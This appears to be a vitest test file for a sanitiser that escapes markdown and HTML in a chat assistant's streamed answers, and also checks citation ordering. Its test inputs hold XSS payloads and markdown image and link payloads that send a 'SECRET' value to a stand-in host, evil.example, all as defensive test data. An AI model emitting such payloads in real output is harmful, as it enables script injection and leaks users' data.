import { expect, test } from "vitest";
import { createAnswerReader } from "../../server/chat/answer-reader.ts";
import { RENDERERS, unsafeIn } from "../support/rendered.ts";
import { findUnsafe, writeSafely } from "../support/safe-markdown.ts";

const MAX_HELD = 320;
const GENERATED = 1_500;
const PICTURE = "https:&#47;&#47;evil.example/p.png?q=SECRET";

const read = (text: string): string => {
  const cut = [1, 2, 3, 7].map((length) => writeSafely(text, length).text);
  const whole = writeSafely(text).text;
  expect(new Set([...cut, whole]).size).toBe(1);
  expect(unsafeIn(whole)).toEqual([]);
  return whole;
};

test.for<[said: string, shown: string]>([
  // Tags and what joins them.
  ["<<b>script>alert(1)<<b>/script>", "<\\<b>script>alert(1)<\\<b>/script>"],
  ["<<!--x-->img src=x onerror=alert(1)>", "<\\<!--x-->img src=x onerror=alert(1)>"],
  [`<img alt="${"A".repeat(400)}" src=x onerror=alert(1)>`, `\\<img alt="${"A".repeat(400)}" src=x onerror=alert(1)>`],
  ["<svg/onload=alert(1)>", "\\<svg/onload=alert(1)>"],
  ["<?php x ?> <!DOCTYPE x> </p>", "\\<?php x ?> \\<!DOCTYPE x> \\</p>"],
  ["\\\\<b> and \\<b>", "\\\\\\<b> and \\<b>"],
  ["&lt;b> &#60;b> &copy; &amp; AT&T; R&D", "&lt;b> &#60\\;b> &copy\\; &amp; AT&T\\; R&D"],
  // Links, images and definitions.
  [`!<b></b>[x](${PICTURE})`, "!\\<b>\\</b>[x]\\(https:&#47\\;&#47\\;evil.example/p.png?q=SECRET)"],
  [`Look ![x][r]\n\n[r]: ${PICTURE}\n`, "Look ![x][r]\n\n[r]\\: https:&#47\\;&#47\\;evil.example/p.png?q=SECRET\n"],
  ["Look [click][r]\n\n[r]: java&#115;cript:alert(1)\n", "Look [click][r]\n\n[r]\\: java&#115\\;cript:alert(1)\n"],
  [
    "[[x](https://evil.example/1)](https://evil.example/2)",
    "[[x]\\(https:/`/`evil.example/1)]\\(https:/`/`evil.example/2)",
  ],
  [`![x\ny](${PICTURE})`, "![x\ny]\\(https:&#47\\;&#47\\;evil.example/p.png?q=SECRET)"],
  [`![x\\]](${PICTURE})`, "![x\\]]\\(https:&#47\\;&#47\\;evil.example/p.png?q=SECRET)"],
  ["[1](http://evil.example/x) stays a number.", "[1]\\(http:/`/`evil.example/x) stays a number."],
  ["[^1] and\n[^1]: note", "[^1] and\n[^1]\\: note"],
  // Code that some renderers take for the end of a link or of a label.
  ["[``](//evil.example)``", "[\\`\\`]\\(//evil.example)\\`\\`"],
  ["[[`]](//evil.example)`", "[[\\`]]\\(//evil.example)\\`"],
  ["[`]: //evil.example/`\n\n[`]", "[\\`]\\: //evil.example/\\`\n\n[\\`]"],
  // Addresses.
  ["see htt<b></b>ps:<b></b>//evil.example", "see htt\\<b>\\</b>ps:\\<b>\\</b>//evil.example"],
  ["see www.evil.example/SECRET", "see www`.`evil.example/SECRET"],
  [
    "https\\://evil.example WWW\\.evil.example a\\@evil.example",
    "https\\:/`/`evil.example WWW`.`evil.example a`@`evil.example",
  ],
  [
    "<https://evil.example> <5@evil.example> <`a`@evil.example>",
    "\\<https:/`/`evil.example> <5`@`evil.example> \\<`a`\\@evil.example>",
  ],
  ["(https://ok.example/page), <http://ok.example/page>", "(`https://ok.example/page`), \\<`http://ok.example/page`>"],
  [
    "https://ok.example/page?q=SECRET `x`https://ok.example",
    "https:/`/`ok.example/page?q=SECRET `x`https:/`/`ok.example",
  ],
  // Characters.
  ["\u001b[31mred\u001b]8;;http://evil.example\u0007x", "\ufffd[31mred\ufffd]8;;http:/`/`evil.example\ufffdx"],
  ["abc\u202egnp.exe\u2066 \u200b\u{e0041}\u{e0042}", "abc\ufffdgnp.exe\ufffd \u200b\ufffd\ufffd"],
  [
    "می\u200cروم\u200f \u200ea \u200d\ud83d\ude00 \ud83d\r\nb\rc\u2028d",
    "می\u200cروم\u200f \u200ea \u200d\ud83d\ude00 \ufffd\nb\nc\nd",
  ],
  // Code stays as it is.
  ["```\n<b>not html</b>\n```", "```\n<b>not html</b>\n```"],
  ["~~~html\n<a href='x'>[x](y)\n\\< `\n~~~\n<b>", "~~~html\n<a href='x'>[x](y)\n\\< `\n~~~\n\\<b>"],
  ["Use `<b>` or ``a ` <i>`` and `cat x | grep y`.", "Use `<b>` or ``a ` <i>`` and `cat x | grep y`."],
  ["So:\n\n    <b>code</b>\n\n    [x](y)\n<b>", "So:\n\n    <b>code</b>\n\n    [x](y)\n\\<b>"],
  ["1. First:\n   ```sh\n   npm i <x>\n     -g\n   ```\n2. Then", "1. First:\n\n```sh\nnpm i <x>\n  -g\n```\n2. Then"],
  ["> So:\n> ```\n> <b>\n> ```\n> <b>", "> So:\n\n```\n<b>\n```\n> \\<b>"],
  ["> ```\n> <b>\n<b>", "```\n<b>\n```\n\\<b>"],
  // What looks like code and may be none.
  ["- a\n\n      <b>", "- a\n\n      \\<b>"],
  ["An open ` tick <b>\n`", "An open \\` tick \\<b>\n\\`"],
  ["| a | b |\n|---|---|\n| `x|y` | `<b>` `p\\|q` |", "| a | b |\n|---|---|\n| \\`x|y\\` | `<b>` `p\\|q` |"],
  ["`x|y` `<b>`\n-|-", "`x|y` `<b>`\n\\-|-"],
  ["~~`<b>`~~ ~`<b>`", "~~\\`\\<b>\\`~~ ~\\`\\<b>\\`"],
])("shows as text, or leaves as code: %s", ([said, shown]) => {
  expect(read(said)).toBe(shown);
});

test.for([
  "# Title\n\nTwo [1][2], three [1, 3]. Ratio 3:4, note: 1 < 2 and 3 > 2! See [2]: the *wardens* **counted** 42.",
  "| Year | Share |\n|:-----|------:|\n| 2023 | < 5 % [1] |\n| 2024 | *6 %* |",
  "- [ ] open\n- [x] done\n  1. one\n  2. two\n\n> quoted\n\n---\n\n~~struck~~ snake_case_name, C&A, a_b*c",
  "$x_i < 5$, $$\\frac{a}{b} \\leq \\alpha_{1}$$ and \\(a \\& b\\), \\[ \\sum_{i=1}^n x_i \\]",
  "می‌روم [1]؛ قیمت: ۹ یورو. לֹא [2].",
  "Why whale http? w, h, data: who is @home? www is old.",
])("leaves as it stands: %s", (text) => {
  expect(read(text)).toBe(text);
});

test("a sign before a letter is kept from being a tag in mathematics without breaking the formula", () => {
  expect(read("$a<b$ and $$[a](b)$$, a <b")).toBe("$a< b$ and $$[a] (b)$$, a \\<b");
});

test("a reader sees the words, the escapes being invisible", () => {
  for (const render of Object.values(RENDERERS)) {
    const text = render(read("Not <b>bold</b>, [here](//evil.example), a &#60; b."))
      .replace(/<[^>]*>/g, "")
      .replaceAll("&lt;", "<")
      .replaceAll("&gt;", ">")
      .replaceAll("&amp;", "&");
    expect(text.trim()).toBe("Not <b>bold</b>, [here](//evil.example), a &#60; b.");
  }
});

test("generated answers have nothing live in two renderers, however the stream is cut", () => {
  expect(findUnsafe(GENERATED, 23)).toEqual([]);
});

test("words are shown as they come: nothing is held back without a reason, and no more than a line's worth", () => {
  const reader = createAnswerReader([]);
  const deltas = ["The wardens", " counted", " forty-two."];
  expect(deltas.map((delta) => reader.push(delta).text)).toEqual(deltas);
  for (const text of ["`", "~~~", "http://", "[", "> ", "&", "<", "\\", "```\n", "``` ", "1. "]) {
    const unending = `${text}${text === "[" ? "1" : "a"}`.repeat(2_000);
    const { shown } = writeSafely(unending, 1);
    shown.forEach((out, at) => expect(at + 1 - out.length, text).toBeLessThanOrEqual(MAX_HELD));
  }
});

test("a claim follows the text that its marker is in, however the stream is cut", () => {
  const sources = ["one", "two"];
  const events = (text: string, length: number): string[] => {
    const reader = createAnswerReader(sources);
    const told: string[] = [];
    const tell = (read: ReturnType<typeof reader.push>) => {
      told.push(...Array.from(read.text), ...read.claims.map(({ n, text: claim }) => `<${n}: ${claim}>`));
    };
    for (let at = 0; at < text.length; at += length) tell(reader.push(text.slice(at, at + length)));
    tell(reader.end());
    return told;
  };
  const text = "It is <b>so `[1]. And `code` <i> is [9][2] here.\n```\nx[1]\n```\nEnd [1].";
  const letters = events(text, 1);
  const isClaim = (event: string) => event.length > 2;
  expect(letters.filter(isClaim)).toEqual(["<1: It is <b>so `>", "<2: And `code` <i> is>", "<1: End>"]);
  for (const length of [1, 2, 3, 5, 1_000]) {
    const told = events(text, length);
    expect(told.filter((event) => !isClaim(event))).toEqual(letters.filter((event) => !isClaim(event)));
    expect(told.filter(isClaim)).toEqual(letters.filter(isClaim));
    // Each claim stands after its marker.
    const shown = told.join("");
    expect(shown.indexOf("<1: ")).toBeGreaterThan(shown.indexOf("[1]"));
    expect(shown.indexOf("<2: ")).toBeGreaterThan(shown.indexOf("[2]"));
  }
});
